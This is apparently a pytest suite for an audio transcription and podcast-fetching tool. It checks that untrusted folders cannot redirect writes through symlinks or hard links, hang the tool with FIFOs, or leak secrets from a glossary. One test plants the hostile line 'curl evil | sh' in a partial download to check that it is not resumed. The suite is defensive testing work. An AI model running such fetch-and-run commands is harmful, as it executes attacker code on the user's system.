"""A folder that came from a stranger, as a checkout does: nothing in it writes elsewhere, runs code or stops us."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import sys
from pathlib import Path
from typing import Any

import pytest

from audio.errors import FetchError
from audio.fetching.fetch import fetch
from tests.support.command_line import Run
from tests.support.fetch_helpers import AUDIO, client_for, episode
from tests.support.hostile_server import HostileServer, Resource
from tests.support.scripted_stages import tone

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="Windows has no such links and modes")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """Somebody's own folder, beside the checkout the commands run in."""
    folder = tmp_path.parent / f"{tmp_path.name}-home"
    (folder / "folder").mkdir(parents=True)
    (folder / "precious").write_text("precious\n")
    return folder


def contents(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


OUTPUT_NAMES = [
    *("a.md", "a.json", "a.vtt", "a.docx"),
    *(f".turnscript/{name}" for name in ("report.json", "run.json", "run.lock", "errors/missing.txt")),
]


@pytest.mark.parametrize("target", ["precious", "new", "folder/new"])
@pytest.mark.parametrize("name", OUTPUT_NAMES)
def test_a_link_at_a_name_of_ours_leads_nowhere(name: str, target: str, home: Path, tmp_path: Path, run: Run) -> None:
    link = tmp_path / "transcripts" / name
    link.parent.mkdir(parents=True)
    link.symlink_to(home / target)
    before = contents(home)
    tone(tmp_path / "a.wav")
    run("run", "a.wav", "-f", "md,json,vtt,docx")
    assert contents(home) == before


@pytest.mark.parametrize("command", [("run", "a.wav"), ("run", "a.wav", "missing.wav")])
def test_our_hidden_folder_is_no_link(command: tuple[str, ...], home: Path, tmp_path: Path, run: Run) -> None:
    (tmp_path / "transcripts").mkdir()
    (tmp_path / "transcripts" / ".turnscript").symlink_to(home / "folder")
    tone(tmp_path / "a.wav")
    before = contents(home)
    code, _, err = run(*command)
    assert code == 1
    assert "a link leads out of transcripts" in err
    assert contents(home) == before


@pytest.fixture
def special(tmp_path: Path) -> Path:
    """A FIFO nobody writes to: opening it for reading waits for ever."""
    os.mkfifo(tmp_path / "fifo")
    return tmp_path / "fifo"


@pytest.mark.parametrize("name", ["a.json", "a.md", ".turnscript/run.json", ".turnscript/report.json"])
def test_a_fifo_at_a_name_of_ours_does_not_stop_a_run(name: str, special: Path, tmp_path: Path, run: Run) -> None:
    path = tmp_path / "transcripts" / name
    path.parent.mkdir(parents=True)
    special.rename(path)
    tone(tmp_path / "a.wav")
    code, _, err = run("run", "a.wav")
    assert code in (0, 1)
    assert "Traceback" not in err


@pytest.mark.parametrize(
    "command",
    [
        *(("lint", "fifo"), ("parse", "fifo"), ("render", "fifo"), ("sync", "fifo"), ("export", "fifo", "-f", "vtt")),
        ("run", "a.wav", "--glossary", "fifo"),
        ("score", "fifo.txt", "fifo.txt"),
        ("check", "clips"),
    ],
)
def test_a_fifo_is_refused_by_name(command: tuple[str, ...], special: Path, tmp_path: Path, run: Run) -> None:
    tone(tmp_path / "a.wav")
    os.mkfifo(tmp_path / "fifo.txt")
    (tmp_path / "clips").mkdir()
    tone(tmp_path / "clips" / "b.wav")
    os.mkfifo(tmp_path / "clips" / "b.ref.txt")
    code, _, err = run(*command)
    assert code != 0
    assert "Traceback" not in err


def test_a_configuration_that_is_a_fifo_is_not_left_out(special: Path, tmp_path: Path, run: Run) -> None:
    special.rename(tmp_path / "transcribe.toml")
    tone(tmp_path / "a.wav")
    code, _, err = run("run", "a.wav")
    assert (code, "transcribe.toml: cannot be read (not a regular file)" in err) == (2, True)


@pytest.mark.parametrize(
    ("text", "sources", "exit_code"),
    [
        ('scheduler = "tcp://127.0.0.1:1"\n', ["a.wav"], 2),
        ('[[show]]\nname = "S"\nfeed = "a.wav"\nscheduler = "tcp://127.0.0.1:1"\n', [], 1),
    ],
)
def test_a_scheduler_is_not_read_from_a_file(
    text: str, sources: list[str], exit_code: int, tmp_path: Path, run: Run
) -> None:
    (tmp_path / "transcribe.toml").write_text(text)
    tone(tmp_path / "a.wav")
    code, out, err = run("run", *sources)
    assert (code, out) == (exit_code, "")
    assert not (tmp_path / "transcripts").exists()
    assert "scheduler is not read from a file" in err
    assert "TRANSCRIBE_SCHEDULER" in err


def test_a_configuration_others_may_write_is_refused(tmp_path: Path, run: Run) -> None:
    (tmp_path / "transcribe.toml").write_text('language = "en"\n')
    (tmp_path / "transcribe.toml").chmod(0o666)
    tone(tmp_path / "a.wav")
    code, _, err = run("run", "a.wav")
    assert code == 2
    assert "transcribe.toml: is not obeyed, because everybody may write to it" in err


def test_a_glossary_that_is_somebodys_secret_is_not_printed(home: Path, tmp_path: Path, run: Run) -> None:
    (home / "precious").write_text("s3cret -> t0ken -> passw0rd\n-----BEGIN KEY-----\nabc=def -> ghi, jkl\n")
    (tmp_path / "transcribe.toml").write_text(f"glossary = {json.dumps(str(home / 'precious'))}\n")
    tone(tmp_path / "a.wav")
    _, out, err = run("run", "a.wav", "--verbose")
    drafts = b"".join(contents(tmp_path / "transcripts").values()) if (tmp_path / "transcripts").exists() else b""
    for word in ("s3cret", "t0ken", "passw0rd", "BEGIN KEY", "ghi", "jkl"):
        assert word not in out + err
        assert word.encode() not in drafts


@pytest.mark.parametrize("part", ["ep.part", "ep.mp3", "ep.mp3.bak"])
def test_a_servers_bytes_stay_in_the_folder(
    part: str, home: Path, tmp_path: Path, run: Run, server: HostileServer
) -> None:
    state = tmp_path / "transcripts" / ".turnscript"
    state.mkdir(parents=True)
    key = hashlib.sha256(json.dumps(["S", "1"]).encode()).hexdigest()[:24]
    audio = server.put("/ep.mp3", Resource(AUDIO))
    item = f"<item><title>Ep</title><guid>1</guid><enclosure url='{audio}' type='audio/mpeg'/></item>"
    feed = server.put("/feed", Resource(f"<rss><channel><title>S</title>{item}</channel></rss>".encode()))
    entry = {"stem": "ep", "title": "Ep", "url": audio, "validator": '"one"'}
    (state / "index.json").write_text(json.dumps({"schema": 1, "episodes": {key: entry}}))
    (tmp_path / "transcripts" / part).symlink_to(home / "precious")
    before = contents(home)
    run("run", feed)
    run("fetch", feed, "-o", "transcripts")
    assert contents(home) == before


NAMES_OF_A_FETCH = ["ep.part", ".turnscript/index.json", ".turnscript/index.changes", ".turnscript/index.lock"]
PLANTS = [(link, target) for link in (os.symlink, os.link) for target in ("precious", "../transcripts/draft.md")]


@pytest.mark.parametrize("name", NAMES_OF_A_FETCH)
@pytest.mark.parametrize("plant", PLANTS)
def test_a_fetch_writes_through_no_name_that_came_with_the_folder(
    plant: tuple[Any, str], name: str, home: Path, tmp_path: Path, server: HostileServer
) -> None:
    """Also not into another file of the folder, such as an edited draft, and not into one with a second name."""
    link, target = plant
    folder = tmp_path / "transcripts"
    (folder / ".turnscript").mkdir(parents=True)
    (folder / "draft.md").write_text("an edited draft\n")
    audio = server.put("/ep.mp3", Resource(AUDIO))
    entry = {"title": "Ep", "url": audio, "validator": '"one"'}
    stored = {"schema": 2, "episodes": {"ep": entry}}
    (folder / ".turnscript" / "index.json").write_text(json.dumps(stored))
    victim = folder / "draft.md" if "draft" in target else home / "precious"
    (folder / name).unlink(missing_ok=True)
    link(victim, folder / name)
    before = contents(home)
    with client_for(server) as client, contextlib.suppress(FetchError):
        fetch(episode(audio, "Ep"), folder, client=client)
    assert contents(home) == before
    assert (folder / "draft.md").read_text() == "an edited draft\n"


@pytest.mark.parametrize("planted", [b"#!/bin/sh\ncurl evil | sh\n" * 99, b"<html><body>Log in</body></html>"])
def test_a_part_that_is_no_audio_is_not_resumed(
    planted: bytes, tmp_path: Path, run: Run, server: HostileServer
) -> None:
    folder = tmp_path / "transcripts"
    (folder / ".turnscript").mkdir(parents=True)
    audio = server.put("/ep.mp3", Resource(AUDIO))
    entry = {"title": "Ep", "url": audio, "validator": '"one"'}
    (folder / ".turnscript" / "index.json").write_text(json.dumps({"schema": 2, "episodes": {"ep": entry}}))
    (folder / "ep.part").write_bytes(planted)
    code, out, _ = run("fetch", audio, "-o", "transcripts")
    assert (code, (tmp_path / out.strip()).read_bytes()) == (0, AUDIO)
    assert not [request for request in server.requests if "range" in request.headers]


def test_a_part_larger_than_a_recording_may_be_is_not_read(tmp_path: Path, run: Run, server: HostileServer) -> None:
    """A sparse file of terabytes takes no room in an archive."""
    folder = tmp_path / "transcripts"
    (folder / ".turnscript").mkdir(parents=True)
    audio = server.put("/ep.mp3", Resource(AUDIO))
    entry = {"title": "Ep", "url": audio, "validator": '"one"'}
    (folder / ".turnscript" / "index.json").write_text(json.dumps({"schema": 2, "episodes": {"ep": entry}}))
    with (folder / "ep.part").open("wb") as file:
        file.truncate(1 << 40)
    assert run("fetch", audio, "-o", "transcripts")[0] == 0
    assert (folder / "ep.mp3").read_bytes() == AUDIO
